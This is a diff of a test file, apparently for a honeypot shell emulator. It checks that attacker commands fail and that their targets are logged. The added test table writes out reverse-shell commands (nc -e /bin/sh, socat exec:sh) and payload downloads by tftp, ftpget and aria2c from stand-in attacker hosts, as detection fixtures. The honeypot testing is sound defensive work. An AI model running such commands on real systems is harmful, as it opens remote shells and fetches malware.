@@ -177,6 +177,22 @@ describe('what visitors do', () => {
     expect(exitCode).not.toBe(0);
   });
 
+  test.each([
+    ['nc -e /bin/sh 203.0.113.9 4444', { type: 'connect', tool: 'nc', host: '203.0.113.9', port: 4444 }],
+    ['/usr/bin/ncat 203.0.113.9 9 | sh', { type: 'connect', tool: 'ncat', host: '203.0.113.9', port: 9 }],
+    ['telnet evil.example.com', { type: 'connect', tool: 'telnet', host: 'evil.example.com', port: null }],
+    ['socat exec:sh tcp:203.0.113.9:53', { type: 'connect', tool: 'socat', host: '203.0.113.9', port: 53 }],
+    ['tftp 203.0.113.9 -c get arm7', { type: 'download', url: 'tftp://203.0.113.9/arm7' }],
+    ['tftp -g -l dvr -r arm7 203.0.113.9', { type: 'download', url: 'tftp://203.0.113.9/arm7' }],
+    ['ftpget -v -u anonymous 203.0.113.9 l r', { type: 'download', url: 'ftp://203.0.113.9/r', destination: 'l' }],
+    ['aria2c -o x http://203.0.113.9/x', { type: 'download', url: 'http://203.0.113.9/x' }],
+    ['lwp-download http://203.0.113.9/p.pl', { type: 'download', url: 'http://203.0.113.9/p.pl' }],
+  ])('%s: the machine has no such program, and where it was to go is recorded', async (command, event) => {
+    const { events, stderr } = await run(command);
+    expect(stderr).toMatch(/command not found|No such file/);
+    expect(events).toContainEqual(expect.objectContaining(event));
+  });
+
   test('a dropped file is told with its bytes, also when it is deleted at once', async () => {
     const { events } = await run("echo -ne '\\x7fELF\\x01' > /tmp/d; echo -ne '\\x02' >> /tmp/d; rm /tmp/d");
     const files = events.flatMap((event) => (event.type === 'file' ? [event] : []));
